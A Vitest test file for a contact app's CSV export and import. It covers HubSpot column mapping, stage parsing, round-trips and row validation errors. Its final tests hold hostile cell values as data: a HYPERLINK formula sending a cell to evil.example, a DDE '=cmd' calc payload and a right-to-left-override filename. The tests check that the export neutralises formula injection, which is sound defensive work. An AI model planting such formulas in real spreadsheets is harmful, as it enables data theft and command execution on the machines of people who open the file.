import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { DEFAULT_SETTINGS, type Person } from '../../../src/domain/types';
import { Backup } from '../../../src/messages/contract';
import {
  backupFileName,
  csvFileName,
  csvToBackup,
  EXPORT_COLUMNS,
  guessMapping,
  HUBSPOT_LIFECYCLE,
  parseCsv,
  parseStage,
  peopleToCsv,
  safeCell,
  splitName,
  unescapeCell,
  type CsvWords,
} from '../../../src/options/csv';
import { NOW, person } from '../popup/fakes';

const words: CsvWords = {
  noName: () => 'no name',
  notProfile: (_l, url) => `not a profile: ${url}`,
  notSiteProfile: (_l, v, site) => `not a ${site} profile: ${v}`,
  badStage: (_l, v) => `bad stage: ${v}`,
  badPhone: (_l, v) => `bad phone: ${v}`,
  badEmail: (_l, v) => `bad e-mail: ${v}`,
  tooMany: (m) => `more than ${m}`,
};
let n = 0;
const opts = { settings: DEFAULT_SETTINGS, now: NOW, newId: () => `imp${++n}`, words };

describe('CSV export', () => {
  it('has the columns HubSpot and Google Contacts recognise', () => {
    for (const c of ['First Name', 'Last Name', 'Lifecycle Stage', 'Lead Source', 'Website', 'Notes', 'Last Touch Date']) {
      expect(EXPORT_COLUMNS).toContain(c);
    }
    expect(EXPORT_COLUMNS).toContain('Website 1 - Value');
    expect(EXPORT_COLUMNS).toContain('Website 1 - Label');
  });

  it('maps stages to documented HubSpot lifecycle values', () => {
    expect(HUBSPOT_LIFECYCLE).toEqual({
      lead: 'lead',
      prospect: 'salesqualifiedlead',
      customer: 'customer',
      team_member: 'other',
      not_interested: 'other',
    });
    const allowed = ['subscriber', 'lead', 'marketingqualifiedlead', 'salesqualifiedlead', 'opportunity', 'customer', 'evangelist', 'other'];
    for (const v of Object.values(HUBSPOT_LIFECYCLE)) expect(allowed).toContain(v);
  });

  it('writes one row per person, quoted where needed, formulas neutralised', () => {
    const ana: Person = {
      ...person('ana', 'Ana Maria Souza', 'prospect'),
      notes: 'Likes "coffee", has kids\nCall after 6',
      lastTouchAt: new Date(2026, 1, 3, 15, 0).getTime(),
    };
    const evil = { ...person('ev', '=HYPERLINK("http://x")'), stage: 'not_interested' as const };
    const csv = peopleToCsv([ana, evil]);
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true });
    expect(parsed.meta.fields).toEqual([...EXPORT_COLUMNS]);
    const [a, e] = parsed.data;
    expect(a).toMatchObject({
      'First Name': 'Ana',
      'Last Name': 'Maria Souza',
      'Lifecycle Stage': 'salesqualifiedlead',
      'Lead Source': 'Comment',
      Website: 'http://127.0.0.1:8337/demo/profile/ana',
      'Website 1 - Label': 'demo',
      'Website 1 - Value': 'http://127.0.0.1:8337/demo/profile/ana',
      Notes: 'Likes "coffee", has kids\nCall after 6',
      'Last Touch Date': '2026-02-03',
      'Handraiser Stage': 'prospect',
    });
    expect(e!['First Name']!.startsWith("'=")).toBe(true);
    expect(e!['Lead Status']).toBe('UNQUALIFIED');
  });

  it('names files by date', () => {
    const at = new Date(2026, 0, 5, 12).getTime();
    expect(backupFileName(at)).toBe('handraiser-backup-2026-01-05.json');
    expect(csvFileName(at)).toBe('handraiser-contacts-2026-01-05.csv');
  });

  it('helpers', () => {
    expect(splitName('  Cher ')).toEqual({ first: 'Cher', last: '' });
    expect(safeCell('-1+1')).toBe("'-1+1");
    expect(safeCell('Ana')).toBe('Ana');
  });
});

describe('CSV import', () => {
  it('guesses the mapping from common headers', () => {
    expect(guessMapping(['Name', 'Profile URL', 'Stage', 'Notes', 'Email', 'Favourite colour'])).toEqual({
      Name: 'name',
      'Profile URL': 'profileUrl',
      Stage: 'stage',
      Notes: 'notes',
      Email: 'email',
      'Favourite colour': 'ignore',
    });
    // Our own export: first/last name, and our own stage column wins over HubSpot's.
    const m = guessMapping([...EXPORT_COLUMNS]);
    expect(m['First Name']).toBe('firstName');
    expect(m['Last Name']).toBe('lastName');
    expect(m['Handraiser Stage']).toBe('stage');
    expect(m['Lifecycle Stage']).toBe('ignore');
    expect(m.Website).toBe('profileUrl');
  });

  it('reads stage words in several vocabularies', () => {
    expect(parseStage('')).toBe('lead');
    expect(parseStage('Prospect')).toBe('prospect');
    expect(parseStage('salesqualifiedlead')).toBe('prospect');
    expect(parseStage('team member')).toBe('team_member');
    expect(parseStage('Cliente')).toBe('customer');
    expect(parseStage('maybe')).toBeNull();
  });

  it('round-trips an export into a valid Backup', () => {
    const people = [
      { ...person('ana', 'Ana Souza', 'prospect'), notes: 'met at the webinar' },
      person('ben', 'Bold Ben', 'customer'),
      person('zoe', 'Zoë Müller', 'not_interested'),
    ];
    const parsed = parseCsv(peopleToCsv(people));
    const out = csvToBackup(parsed.rows, guessMapping(parsed.headers), opts);
    expect(out.problems).toEqual([]);
    const backup = Backup.omit({ settings: true }).strict().parse(out.backup);
    expect(backup.people.map((p) => [p.name, p.stage, p.identities[0]?.profileKey, p.notes])).toEqual([
      ['Ana Souza', 'prospect', 'demo:ana', 'met at the webinar'],
      ['Bold Ben', 'customer', 'demo:ben', ''],
      ['Zoë Müller', 'not_interested', 'demo:zoe', ''],
    ]);
    expect(backup.people[0]!.sources[0]).toMatchObject({ kind: 'import', site: 'demo' });
  });

  it('says which rows are wrong and why, and builds nothing', () => {
    const text = [
      'Name,Profile,Stage',
      'Ana,https://www.facebook.com/ana.souza,lead',
      'Ben,https://example.com/ben,lead',
      ',,',
      'Cid,,maybe',
      ',https://x.com/zoe,',
    ].join('\n');
    const parsed = parseCsv(text);
    const out = csvToBackup(parsed.rows, guessMapping(parsed.headers), { ...opts, rowNumbers: parsed.rowNumbers });
    expect(out.backup).toBeNull();
    expect(out.problems).toEqual([
      { line: 3, message: 'not a profile: https://example.com/ben' },
      { line: 5, message: 'bad stage: maybe' },
    ]);
  });

  it('uses the handle when there is no name, and merges several profile columns', () => {
    const parsed = parseCsv('Profile,Other\r\nhttps://x.com/zoe,https://twitter.com/Zoe\r\n');
    const out = csvToBackup(parsed.rows, { Profile: 'profileUrl', Other: 'profileUrl' }, opts);
    expect(out.backup?.people).toHaveLength(1);
    expect(out.backup?.people[0]).toMatchObject({ name: 'zoe', identities: [{ site: 'x', profileKey: expect.any(String) }] });
    expect(out.backup?.people[0]!.identities).toHaveLength(1);
  });

  it('recognises phone, e-mail and per-site profile columns, by address or by handle', () => {
    const m = guessMapping(['Nombre', 'Teléfono', 'Correo electrónico', 'Facebook URL', 'Instagram', 'TikTok', 'LinkedIn profile', 'Twitter', 'YouTube channel', 'WhatsApp']);
    expect(m).toEqual({
      Nombre: 'name',
      Teléfono: 'phone',
      'Correo electrónico': 'email',
      'Facebook URL': 'facebookUrl',
      Instagram: 'instagramUrl',
      TikTok: 'tiktokUrl',
      'LinkedIn profile': 'linkedinUrl',
      Twitter: 'xUrl',
      'YouTube channel': 'youtubeUrl',
      // One phone column: the second is left for the user to map.
      WhatsApp: 'ignore',
    });
    const parsed = parseCsv(
      [
        'Nombre,Teléfono,Correo electrónico,Facebook URL,Instagram,TikTok',
        'Lucía Fernández,+34 612 345 678,lucia@example.com,https://www.facebook.com/lucia.fdz,@lucia.fdz,lucia.fdz',
      ].join('\n'),
    );
    const out = csvToBackup(parsed.rows, guessMapping(parsed.headers), opts);
    expect(out.problems).toEqual([]);
    const p = out.backup!.people[0]!;
    expect(p).toMatchObject({ name: 'Lucía Fernández', phone: '+34 612 345 678', email: 'lucia@example.com' });
    expect(p.identities.map((i) => i.profileKey)).toEqual(['facebook:lucia.fdz', 'instagram:lucia.fdz', 'tiktok:@lucia.fdz']);
    expect(Backup.omit({ settings: true }).strict().safeParse(out.backup).success).toBe(true);
  });

  it('refuses a bad phone, e-mail or a profile of another site in a site column, naming the row and what is expected', () => {
    const parsed = parseCsv(['Name,Phone,Email,Instagram', 'Ana,call me,ana(at)mail,https://www.facebook.com/ana', 'Ben,,,'].join('\n'));
    const out = csvToBackup(parsed.rows, guessMapping(parsed.headers), { ...opts, rowNumbers: parsed.rowNumbers });
    expect(out.backup).toBeNull();
    expect(out.problems).toEqual([
      { line: 2, message: 'not a instagram profile: https://www.facebook.com/ana' },
      { line: 2, message: 'bad phone: call me' },
      { line: 2, message: 'bad e-mail: ana(at)mail' },
    ]);
  });

  it('exports phone, e-mail and the profile on each site in columns of their own', () => {
    const p = {
      ...person('ana', 'Ana Souza'),
      phone: '+34 612 345 678',
      email: 'ana@example.com',
    };
    p.identities = [...p.identities, { site: 'instagram' as const, profileKey: 'instagram:ana.s', profileUrl: 'https://www.instagram.com/ana.s/', displayName: 'Ana', handle: 'ana.s' }];
    const [header, line] = Papa.parse<string[]>(peopleToCsv([p])).data;
    const row = Object.fromEntries(header!.map((h, i) => [h, line![i]]));
    // A leading + is what a spreadsheet would run as a formula: the export guards it like every cell.
    expect(row).toMatchObject({ Email: 'ana@example.com', 'Phone Number': "'+34 612 345 678", 'E-mail 1 - Value': 'ana@example.com', 'Instagram URL': 'https://www.instagram.com/ana.s/', 'Facebook URL': '' });
    // And our own export comes back the same.
    const parsed = parseCsv(peopleToCsv([p]));
    const back = csvToBackup(parsed.rows, guessMapping(parsed.headers), opts).backup!.people[0]!;
    expect(back).toMatchObject({ phone: '+34 612 345 678', email: 'ana@example.com' });
    expect(back.identities.map((i) => i.profileKey).sort()).toEqual(['demo:ana', 'instagram:ana.s']);
  });

  it('strips a byte-order mark and skips blank lines', () => {
    const parsed = parseCsv('\uFEFFName\n\nAna\n\n');
    expect(parsed.headers).toEqual(['Name']);
    expect(parsed.rows).toEqual([{ Name: 'Ana' }]);
    expect(parsed.rowNumbers).toEqual([3]);
  });
});

describe('CSV export against formula injection and misread text', () => {
  it('neutralises every start a spreadsheet could run, full-width and control characters included', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', ' =', '\u3000＝', "'=", "''+"]) {
      const cell = `${start}HYPERLINK("https://evil.example/?"&A1,"Click")`;
      expect(safeCell(cell), JSON.stringify(start)).toBe(`'${cell}`);
    }
    for (const plain of ['Ana', "O'Reilly", "'quoted'", 'a=b', '1+1', '', ' ', 'x\n=1']) expect(safeCell(plain)).toBe(plain);
  });

  it('escaping is undone on import, exactly, for any text', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: 'binary' }), fc.array(fc.constantFrom(...[..."' \t\r\n\0=+-@＝＋－＠﹦﹢﹣﹫\u3000a"]), { maxLength: 6 }).map((cs) => cs.join(''))), (s) => {
        expect(unescapeCell(safeCell(s))).toBe(s);
      }),
    );
  });

  it('starts with a UTF-8 byte-order mark, which our own import and common parsers skip', () => {
    const csv = peopleToCsv([person('ana', 'Zoë Müller')]);
    expect(csv.startsWith('\uFEFFFirst Name,')).toBe(true);
    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
    expect(parseCsv(csv).headers[0]).toBe('First Name');
    expect(parseCsv(csv).rows[0]!['First Name']).toBe('Zoë');
  });

  it("a name's direction controls do not reach the spreadsheet; hostile cells come back as they were", () => {
    const evil = { ...person('ev', 'Eve \u202Egnp.exe\u202C Smith'), notes: '=cmd|" /C calc"!A0\n＠SUM(1)' };
    const csv = peopleToCsv([evil]);
    expect(csv).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    const row = parseCsv(csv).rows[0]!;
    expect(row['First Name']).toBe('Eve');
    expect(row['Last Name']).toBe('gnp.exe Smith');
    expect(row['Notes']).toBe(evil.notes);
    expect(Papa.parse<Record<string, string>>(csv.slice(1), { header: true }).data[0]!['Notes']).toBe(`'${evil.notes}`);
  });
});
